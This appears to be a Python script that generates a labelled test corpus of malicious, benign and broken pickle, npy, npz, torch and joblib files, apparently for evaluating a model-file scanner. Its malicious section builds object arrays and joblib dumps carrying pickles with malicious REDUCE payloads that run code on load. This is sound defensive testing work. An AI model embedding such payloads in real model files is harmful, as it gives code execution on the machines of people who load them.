    (base / "object_array_payload.npy").write_bytes(
        _npy_raw({"descr": "|O", "fortran_order": False, "shape": (1,)}, dumps(_system(), 4))
    )
    out.append(
        (
            "malicious/object_array_payload.npy",
            "malicious",
            "npy object array carrying a malicious pickle",
        )
    )

    npz_member = _npy_raw({"descr": "|O", "fortran_order": False, "shape": (2,)}, evil)
    _zip_write(
        base / "npz_member_payload.npz",
        [("weights.npy", _npy([1.0, 2.0])), ("meta.npy", npz_member)],
    )
    out.append(
        (
            "malicious/npz_member_payload.npz",
            "malicious",
            "npz with a malicious object-array member",
        )
    )

    import joblib  # type: ignore[import-untyped]
    import numpy as np

    model = {"coef": np.arange(6, dtype="float64").reshape(2, 3), "hook": _Evil()}
    joblib.dump(model, base / "joblib_reduce.joblib")
    out.append(
        (
            "malicious/joblib_reduce.joblib",
            "malicious",
            "joblib dump with a malicious REDUCE after an array",
        )
    )
    for kind in ("zlib", "gzip", "xz"):
        name = f"joblib_{kind}.joblib"
        joblib.dump(model, base / name, compress=(kind, 3))
        _gzip_deterministic(base / name)
        out.append(
            (f"malicious/{name}", "malicious", f"{kind}-compressed joblib with a malicious REDUCE")
        )


def _write_benign(root: Path, out: list[Sample]) -> None:
    import joblib
    import numpy as np

    base = root / "benign"
    base.mkdir(parents=True, exist_ok=True)

    def add(name: str, description: str) -> None:
        out.append((f"benign/{name}", "benign", description))

    s = Storages()
    torch_zip(base / "tiny_mlp.pt", dumps(state_dict(s, MLP), 2), s)
    add("tiny_mlp.pt", "torch zip state_dict, protocol 2 (torch.save default)")
    s = Storages()
    torch_zip(base / "tiny_mlp_p4.pt", dumps(state_dict(s, MLP), 4, frame=True), s)
    add("tiny_mlp_p4.pt", "torch zip state_dict, protocol 4 with FRAME")
    s = Storages()
    ckpt = {"model": state_dict(s, MLP), "optimizer": adam_state(s), "epoch": 3, "best_acc": 0.91}
    torch_zip(base / "checkpoint.pth", dumps(ckpt, 2), s)
    add("checkpoint.pth", "torch zip training checkpoint: model + Adam state + epoch")
    s = Storages()
    params = {"weight": s.parameter((4, 4)), "bias": s.parameter((4,))}
    torch_zip(base / "parameters.pt", dumps(params, 2), s, archive="archive")
    add("parameters.pt", "torch zip of nn.Parameters (_rebuild_parameter), archive/ folder")
    s = Storages()
    half = {
        "emb": s.tensor((16, 4), "BFloat16Storage"),
        "head": s.tensor((4, 2), "HalfStorage"),
        "dtype": G("torch", "bfloat16"),
        "ids": s.tensor((3,), "LongStorage"),
    }
    torch_zip(base / "mixed_dtypes.pt", dumps(half, 2), s)
    add("mixed_dtypes.pt", "torch zip with bf16/fp16/int64 storages and a dtype value")
    s = Storages()
    fairseq = {
        "args": NewObj(G("argparse", "Namespace"), state={"lr": 0.1, "arch": "tiny"}),
        "model": state_dict(s, MLP),
    }
    torch_zip(base / "fairseq_style.pt", dumps(fairseq, 2), s)
    add("fairseq_style.pt", "torch zip with argparse.Namespace args (fairseq style)")
    s = Storages(legacy=True)
    torch_legacy(base / "legacy.pt", state_dict(s, MLP), s)
    add("legacy.pt", "legacy (pre-1.6) torch.save: five pickles + raw storages")
    s = Storages(legacy=True)
    torch_legacy(base / "legacy_ckpt.pth", {"epoch": 1, "state_dict": state_dict(s, MLP)}, s)
    add("legacy_ckpt.pth", "legacy torch.save of a checkpoint dict")

    rng = np.random.default_rng(7)
    arrays: list[tuple[str, object, str]] = [
        ("float32.npy", rng.standard_normal((16, 8)).astype("float32"), "npy float32"),
        ("fortran_int64.npy", np.asfortranarray(np.arange(12).reshape(3, 4)), "npy Fortran int64"),
        (
            "structured.npy",
            np.array([(1, 2.0), (3, 4.0)], dtype=[("a", "<i4"), ("b", "<f8")]),
            "npy structured dtype",
        ),
        ("unicode.npy", np.array(["héllo", "wörld"]), "npy unicode strings"),
        ("bool_empty.npy", np.zeros((0,), dtype=bool), "npy empty bool array"),
        ("datetime.npy", np.array(["2024-01-01"], dtype="M8[D]"), "npy datetime64"),
    ]
    for name, array, description in arrays:
        (base / name).write_bytes(_npy(array))
        add(name, description)
    (base / "version2.npy").write_bytes(_npy(np.ones((2, 2)), version=(2, 0)))
    add("version2.npy", "npy format version 2.0 header")
    (base / "object_ints.npy").write_bytes(_npy(np.array([1, "two", 3.0], dtype=object)))
    add("object_ints.npy", "npy object array of plain values (its pickle is benign)")
    _zip_write(
        base / "arrays.npz",
        [("w.npy", _npy(rng.standard_normal((4, 4)))), ("b.npy", _npy(np.zeros(4)))],
    )
    add("arrays.npz", "npz (np.savez layout)")
    _zip_write(
        base / "arrays_compressed.npz",
        [("w.npy", _npy(np.arange(100))), ("labels.npy", _npy(np.array(["a", "b"])))],
        deflate=True,
    )
    add("arrays_compressed.npz", "npz deflated (np.savez_compressed layout)")

    model = {
        "coef": rng.standard_normal((4, 3)),
        "intercept": np.zeros(3),
        "classes": np.array(["cat", "dog", "fish"]),
        "objects": np.array([1, "x"], dtype=object),
        "params": {"C": 1.0, "penalty": "l2"},
    }
    joblib.dump(model, base / "model.joblib")
    add("model.joblib", "joblib dump of arrays and params (protocol default)")
    joblib.dump(model, base / "model_p2.joblib", protocol=2)
    add("model_p2.joblib", "joblib dump, protocol 2")
    for kind, ext in (
        ("zlib", "z"),
        ("gzip", "gz"),
        ("bz2", "bz2"),
        ("xz", "xz"),
        ("lzma", "lzma"),
    ):
        name = f"model.joblib.{ext}"
        joblib.dump(model, base / name, compress=(kind, 3))
        _gzip_deterministic(base / name)
        add(name, f"{kind}-compressed joblib dump")

    plain: list[tuple[str, bytes, str]] = [
        (
            "dict_p0.pkl",
            pickle.dumps({"a": [1, 2, 3], "b": "text", "c": None}, 0),
            "protocol 0 dict",
        ),
        ("list_p1.pkl", pickle.dumps([1, 2.5, "x", (1, 2), {"k": "v"}], 1), "protocol 1 list"),
        (
            "sets_bytes_p2.pkl",
            pickle.dumps(
                {"s": {1, 2}, "f": frozenset({3}), "b": b"\x00\xff", "ba": bytearray(b"z")}, 2
            ),
            "protocol 2 sets/bytes (_codecs.encode latin1)",
        ),
        (
            "bytes_p3.pkl",
            pickle.dumps({"blob": bytes(range(256)) * 4, "n": 2**70}, 3),
            "protocol 3 bytes + big int",
        ),
        (
            "nested_p4.pkl",
            pickle.dumps(
                {f"k{i}": {"v": list(range(i % 7)), "t": (i, str(i))} for i in range(300)}, 4
            ),
            "protocol 4 nested dict",
        ),
        (
            "numpy_p5.pkl",
            pickle.dumps({"x": np.arange(10), "s": np.float64(2.5)}, 5),
            "protocol 5 numpy (_frombuffer)",
        ),
        (
            "numpy_p2.pkl",
            pickle.dumps({"x": np.arange(10), "rng": np.random.RandomState(0)}, 2),
            "protocol 2 numpy array + RandomState",
        ),
        ("rng_generator.pkl", pickle.dumps(np.random.default_rng(3), 4), "numpy Generator state"),
        (
            "stdlib_values.pkl",
            pickle.dumps(
                {
                    "when": __import__("datetime").datetime(2024, 1, 2, 3, 4, 5),
                    "price": __import__("decimal").Decimal("1.50"),
                    "id": __import__("uuid").UUID(int=42),
                    "od": __import__("collections").OrderedDict(a=1),
                    "dd": __import__("collections").defaultdict(list, {"k": [1]}),
                },
                4,
            ),
            "datetime/Decimal/UUID/OrderedDict/defaultdict",
        ),
        (
            "cyclic_list.pkl",
            b"\x80\x02]\x94g0\na.",
            "self-referencing list (fickling #196 DoS case)",
        ),
    ]
    for name, data, description in plain:
        (base / name).write_bytes(data)
        add(name, description)
    for name, (data, description) in project_class_streams().items():
        (base / name).write_bytes(data)
        add(name, description)


def _write_broken(root: Path, out: list[Sample]) -> None:
    base = root / "broken"
    base.mkdir(parents=True, exist_ok=True)

    def add(name: str, data: bytes, description: str) -> None:
        (base / name).write_bytes(data)
        out.append((f"broken/{name}", "broken", description))

    good = pickle.dumps({"weights": list(range(50)), "name": "tiny"}, 4)
    add("truncated.pkl", good[: len(good) // 2], "protocol 4 pickle cut in half")
    add("empty.pkl", b"", "zero-length file")
    add("random.pt", random.Random(20260122).randbytes(4096), "random bytes")
    add("bad_opcode.pkl", b"\x80\x04\x8c\x01a\xff.", "an opcode byte that does not exist")
    add("stack_underflow.pkl", b"\x80\x02R.", "REDUCE on an empty stack")
    add(
        "lying_header.npy",
        _npy_raw({"descr": "<f8", "fortran_order": False, "shape": (1000, 1000)}, b"\x00" * 64),
        "npy header promising 8 MB over 64 bytes of data",
    )
    add(
        "oversized_header.npy",
        b"\x93NUMPY\x02\x00" + struct.pack("<I", 0xFFFFFFF0) + b"{'descr': ",
        "npy 2.0 header length of 4 GiB",
    )
    add(
        "not_a_literal.npy",
        _npy_raw({"descr": "<f8", "fortran_order": False, "shape": (1,)}, b"\x00" * 8).replace(
            b"'descr'", b"descr()"
        ),
        "npy header that is not a Python literal",
    )
    s = Storages()
    torch_zip(base / "truncated_zip.pt", dumps(state_dict(s, MLP), 2), s)
    whole = (base / "truncated_zip.pt").read_bytes()
    (base / "truncated_zip.pt").write_bytes(whole[: len(whole) // 2])
    out.append(
        ("broken/truncated_zip.pt", "broken", "torch zip cut in half (no central directory)")
    )
    s = Storages()
    torch_zip(base / "truncated_data_pkl.pt", dumps(state_dict(s, MLP), 2)[:100], s)
    out.append(("broken/truncated_data_pkl.pt", "broken", "torch zip whose data.pkl is truncated"))
    compressed = zlib.compress(pickle.dumps(list(range(2000)), 4))
    add("truncated.joblib.z", compressed[: len(compressed) // 3], "zlib joblib stream cut short")
    add("bad_bz2.joblib.bz2", b"BZh9" + bytes(200), "bz2 magic over garbage")
    add("bad_xz.joblib.xz", lzma.compress(good)[:40], "xz stream cut short")
    add(
        "bad_gzip.joblib.gz",
        b"\x1f\x8b\x08\x00" + bz2.compress(b"x")[:30],
        "gzip magic over garbage",
    )


def generate(root: Path) -> list[Sample]:
    """Write the corpus under `root`; return (relative path, label, technique) for each file."""
    out: list[Sample] = []
    _write_malicious(root, out)
    _write_benign(root, out)
    _write_broken(root, out)
    return out


def main(argv: list[str]) -> int:
    root = Path(argv[1] if len(argv) > 1 else "corpus-pickle")
    samples = generate(root)
    counts: dict[str, int] = {}
    for _, label, _ in samples:
        counts[label] = counts.get(label, 0) + 1
    print(f"{len(samples)} files under {root}: {counts}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
